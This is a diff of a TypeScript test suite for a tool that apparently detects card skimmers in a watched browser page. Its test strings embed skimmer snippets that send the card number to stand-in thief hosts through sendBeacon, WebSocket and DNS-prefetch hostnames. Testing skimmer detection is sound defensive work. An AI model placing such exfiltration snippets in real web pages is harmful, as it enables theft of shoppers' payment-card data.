@@ -1,4 +1,6 @@
+import { deep } from '@tillwatch/testbed/depth'
 import { describe, expect, it } from 'vitest'
+import { together } from '../together.ts'
 import { browser, shareBrowser } from './shared-browser.ts'
 import { type Watched, watchPage } from './watch-page.ts'
 
@@ -22,24 +24,21 @@ describe('what leaves with the page', () => {
     expect(cards(watched)).toMatchObject([{ host: watched.thiefHost, where: 'body', requestId: null, phase: 'leave', blocked: true }])
   })
 
-  it('is found in the name of a host over https, which nothing else shows', async () => {
-    const watched = await watchPage(browser, { skimmer: onLeaving(`navigator.sendBeacon('https://x' + pan + '.thief.localhost:8443/')`) })
-    expect(cards(watched)).toMatchObject([{ host: `x${watched.canary.card}.thief.localhost`, where: 'dns', blocked: true }])
-  })
-
-  it('is named as not searched over https, to a host contacted before as well', async () => {
-    const watched = await watchPage(browser, {
-      skimmer: `new Image().src = 'https://THIEF/hello.gif'; ${onLeaving(`navigator.sendBeacon('https://THIEF/c', pan)`)}`,
-    })
-    expect(watched.canary.notSearched).toEqual([{ requestId: 'guard 127.0.0.1', gap: { code: 'encrypted-unreported', values: {} } }])
-  })
-
-  it('is found in a socket that was opened before and had sent much', async () => {
-    const watched = await watchPage(browser, {
-      skimmer: `const ws = new WebSocket('ws://THIEF/w'); ws.onopen = () => ws.send('x'.repeat(100000)); ${onLeaving('ws.send(pan)')}`,
-    })
-    expect(cards(watched)).toMatchObject([{ host: watched.thiefHost }])
-    expect(watched.canary.notSearched).toEqual([])
+  it('is found in the name of a host over https and in a socket opened before that had sent much, and what https hides is named as not searched', async () => {
+    const skimmers = [
+      onLeaving(`navigator.sendBeacon('https://x' + pan + '.thief.localhost:8443/')`),
+      `const ws = new WebSocket('ws://THIEF/w'); ws.onopen = () => ws.send('x'.repeat(100000)); ${onLeaving('ws.send(pan)')}`,
+      // The browser tells nothing of what leaves for a host that was contacted before.
+      `new Image().src = 'https://THIEF/hello.gif'; ${onLeaving(`navigator.sendBeacon('https://THIEF/c', pan)`)}`,
+    ]
+    const watched = await watchPage(browser, { skimmers })
+    const [, socket, known] = watched.each.map(({ host }) => host)
+    const found = cards(watched)
+    expect(found.map(({ host }) => host).sort()).toEqual([socket, `x${watched.canary.card}.thief.localhost`].sort())
+    expect(found.find(({ host }) => host.endsWith('.thief.localhost'))).toMatchObject({ where: 'dns', blocked: true })
+    const unread = watched.canary.notSearched.map(({ requestId, gap }) => [requestId, gap.code])
+    const hosts = [`x${watched.canary.card}.thief.localhost`, known?.split(':')[0]]
+    expect(unread.sort()).toEqual(hosts.map((host) => [`guard ${host}`, 'encrypted-unreported']).sort())
   })
 
   it('is told once though both the browser and the guard saw it', async () => {
@@ -58,22 +57,19 @@ describe('a name given early', () => {
     expect(capture.outcome.issues.map(({ cause }) => cause.code)).toContain('names-max')
   })
 
-  const link = (rel: string) => `const k = document.createElement('link'); k.rel = '${rel}'; k.href = '//x' + pan + '.thief.localhost/';`
-  it.each([
-    ['removed at once', `${link('preconnect')} document.head.append(k); setTimeout(() => k.remove(), 10)`],
-    [
-      'inside another element',
-      `${link('dns-prefetch')} const box = document.createElement('div'); box.append(k); document.body.append(box)`,
-    ],
-    ['that stays', `${link('dns-prefetch')} document.head.append(k)`],
-    [
-      'given to a link that is there',
-      `const k = document.createElement('link'); k.rel = 'dns-prefetch'; document.head.append(k);
-       k.href = 'https://x' + pan + '.thief.localhost/'; setTimeout(() => k.remove(), 10)`,
-    ],
-  ])('%s is found, once', async (_name, work) => {
-    const watched = await watchPage(browser, { skimmer: onCard(work) })
-    expect(cards(watched)).toMatchObject([{ where: 'dns', host: `x${watched.canary.card}.thief.localhost` }])
+  const link = (rel: string) => `const k = document.createElement('link'); k.rel = '${rel}'; k.href = '//x' + pan + '.HOST/';`
+  const early: Record<string, string> = {
+    'removed at once': `${link('preconnect')} document.head.append(k); setTimeout(() => k.remove(), 10)`,
+    'inside another element': `${link('dns-prefetch')} const box = document.createElement('div'); box.append(k); document.body.append(box)`,
+    'that stays': `${link('dns-prefetch')} document.head.append(k)`,
+    'given to a link that is there': `const k = document.createElement('link'); k.rel = 'dns-prefetch'; document.head.append(k);
+      k.href = 'https://x' + pan + '.HOST/'; setTimeout(() => k.remove(), 10)`,
+  }
+  it.each(together(early))('%s is found, once', async (_names, links) => {
+    const hostOf = (name: string) => `${name.replaceAll(' ', '-')}.localhost`
+    const watched = await watchPage(browser, { skimmers: links.map(([name, work]) => onCard(work.replaceAll('HOST', hostOf(name)))) })
+    const found = cards(watched).map(({ where, host }) => `${where} ${host}`)
+    expect(found.sort()).toEqual(links.map(([name]) => `dns x${watched.canary.card}.${hostOf(name)}`).sort())
   })
 })
 
@@ -86,7 +82,7 @@ describe('traffic made to be too much', () => {
     expect(cards(watched)).toMatchObject([{ where: 'reassembled', host: watched.thiefHost }])
   })
 
-  it('ends: a text that old patterns read again and again is searched like any other', async () => {
+  it.runIf(deep)('ends: a text that old patterns read again and again is searched like any other', async () => {
     const watched = await watchPage(browser, {
       shop: onCard(`for (const body of [('"1":1' + ' '.repeat(40)).repeat(7) + 'x', '[' + '1'.repeat(60000) + 'x', '{' + '"\\\\\\\\"'.repeat(20000)])
         fetch('/log', { method: 'POST', body })`),
